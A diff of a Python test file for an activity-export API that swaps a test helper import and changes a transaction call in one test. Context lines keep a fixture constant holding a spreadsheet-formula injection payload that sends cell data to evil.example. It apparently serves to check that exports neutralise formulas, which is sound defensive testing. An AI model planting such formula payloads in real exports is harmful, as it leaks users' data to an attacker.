@@ -14,7 +14,7 @@ from api.reading import activity_export
 from api.reading.activity_export import harmless
 from models.identifiers import Prefix, new_id
 from terms.activity import Actor
-from tests.api.calling import Owner, parts_of, problem, uploaded
+from tests.api.calling import Owner, all_seeing, problem, uploaded
 
 FORMULA = '=HYPERLINK("https://evil.example?x="&A1)'
 
@@ -127,7 +127,7 @@ async def test_what_staff_did_in_a_business_shows_to_its_owner(
         business_id=owner.business_id,
         objects=[document],
     )
-    async with parts_of(app).database.transaction() as session:
+    async with all_seeing(app).transaction() as session:
         await note(session, entry)
     (shown,) = await items(owner, object=document)
     assert shown["actor"] == {"kind": "staff", "id": member, "name": None, "roles": ["reviewer"]}
